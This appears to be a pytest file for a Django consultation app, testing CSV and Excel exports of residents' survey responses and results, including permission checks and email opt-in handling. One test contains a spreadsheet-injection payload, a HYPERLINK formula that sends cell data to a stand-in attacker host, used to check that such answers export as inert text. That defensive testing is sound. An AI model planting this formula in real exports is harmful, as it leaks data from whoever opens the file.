"""CSV and Excel exports of a consultation's responses and of its results."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from engage.consultations.tests.result_fixture import (
    build_consultation,
    finished_analysis,
    themes_for,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def consultation(office):
    consultation = build_consultation(office)
    themes_for(consultation)
    return consultation


def _csv(response) -> list[dict[str, str]]:
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_responses_csv_has_a_readable_row_per_submitted_response(client, analyst, consultation):
    client.force_login(analyst)
    url = reverse("consultations:export_responses", args=[consultation.pk, "csv"])
    response = client.get(url)
    assert response["Content-Disposition"] == 'attachment; filename="precept-2027-responses.csv"'
    rows = _csv(response)
    assert len(rows) == 24  # the unfinished draft is left out
    first = rows[0]
    assert first["Channel"] == "Paper form"
    assert first["Submitted"] == "06/01/2026 09:30"
    assert first["Paper form or source id"] == "P-000"
    assert first["Q1. How much more would you pay a year for policing (Band D)?"] == "No increase"
    assert first["Q2. How safe do you feel in your area after dark?"] == "1"
    assert first["Q3. Which should be the Commissioner's priorities?"] == "Neighbourhood policing"
    assert rows[1]["Q3. Which should be the Commissioner's priorities?"] == (
        "Neighbourhood policing; Road safety"
    )
    assert first["Q4. Is there anything else you want to tell us?"] == (
        "We never see a police officer in our village any more."
    )
    assert first["Q4. Is there anything else you want to tell us? – themes"] == "Police visibility"
    assert first["Age"] == "16 to 24"
    assert first["Ethnic group"] == "White"
    assert first["Area"] == "North Warwickshire"
    assert first["Postcode district"] == "CV11"


def test_email_only_for_people_who_asked_to_hear_the_outcome(client, analyst, consultation):
    client.force_login(analyst)
    url = reverse("consultations:export_responses", args=[consultation.pk, "csv"])
    rows = _csv(client.get(url))
    by_email = {row["Email"]: row for row in rows if row["Email"]}
    # resident0 asked to hear the outcome; resident1 gave an address but did not ask.
    assert "resident0@example.org" in by_email
    assert "resident1@example.org" not in by_email
    assert all(row["Wants to hear the outcome"] == "Yes" for row in by_email.values())
    assert {row["Email"] for row in rows if row["Wants to hear the outcome"] == "No"} == {""}


def test_people_without_the_export_permission_get_no_responses(
    client, commissioner, ambassador, consultation
):
    url = reverse("consultations:export_responses", args=[consultation.pk, "csv"])
    for user in (commissioner, ambassador):
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == 403
        assert b"resident0@example.org" not in response.content


def test_a_formula_in_an_answer_is_exported_as_text(client, analyst, consultation):
    client.force_login(analyst)
    url = reverse("consultations:export_responses", args=[consultation.pk, "csv"])
    answers = [
        row["Q4. Is there anything else you want to tell us?"] for row in _csv(client.get(url))
    ]
    assert '\'=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")' in answers
    assert not any(a.startswith(("=", "+", "-", "@")) for a in answers)

    xlsx = client.get(reverse("consultations:export_responses", args=[consultation.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    column = header.index("Q4. Is there anything else you want to tell us?")
    cells = [row[column].value for row in sheet.iter_rows(min_row=2)]
    assert '\'=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")' in cells
    assert all(row[column].data_type != "f" for row in sheet.iter_rows(min_row=2))


def test_an_unknown_format_is_not_found(client, analyst, consultation):
    client.force_login(analyst)
    for name in ("export_responses", "export_results"):
        url = reverse(f"consultations:{name}", args=[consultation.pk, "json"])
        assert client.get(url).status_code == 404


def test_results_csv_flattens_the_analysis(client, commissioner, consultation):
    finished_analysis(consultation)
    client.force_login(commissioner)
    url = reverse("consultations:export_results", args=[consultation.pk, "csv"])
    rows = _csv(client.get(url))
    fourteen = next(r for r in rows if r["Answer"] == "£14 more a year" and r["Breakdown"] == "")
    assert fourteen == {
        "Question number": "1",
        "Question": "How much more would you pay a year for policing (Band D)?",
        "Breakdown": "",
        "Group": "All respondents",
        "Answer": "£14 more a year",
        "People": "839",
        "%": "43.0",
        "Weighted %": "38.8",
        "Margin of error (± points)": "2.9",
        "Base (people)": "1950",
        "Base (weighted)": "1940.2",
    }
    by_age = [r for r in rows if r["Breakdown"] == "Age" and r["Group"] == "45 to 54"]
    assert [r["Answer"] for r in by_age] == ["No increase", "£10 more a year", "£14 more a year"]
    assert by_age[0]["Base (people)"] == "402"
    assert any(r["Answer"] == "Theme: Police visibility" and r["People"] == "301" for r in rows)


def test_results_xlsx_has_the_results_and_who_responded(client, analyst, consultation):
    finished_analysis(consultation)
    client.force_login(analyst)
    url = reverse("consultations:export_results", args=[consultation.pk, "xlsx"])
    book = load_workbook(io.BytesIO(client.get(url).content))
    assert book.sheetnames == ["Results", "Who responded"]
    who = list(book["Who responded"].iter_rows(values_only=True))
    assert who[0][:3] == ("Breakdown", "Group", "Respondents")
    assert ("Ethnic group", "Asian, Asian British or Asian Welsh", 41, 2.2, 6.1, "Yes") in who


def test_results_export_before_any_analysis_says_so(client, analyst, consultation):
    client.force_login(analyst)
    response = client.get(reverse("consultations:export_results", args=[consultation.pk, "csv"]))
    assert response.status_code == 404
    assert "There are no results to download yet" in response.content.decode()
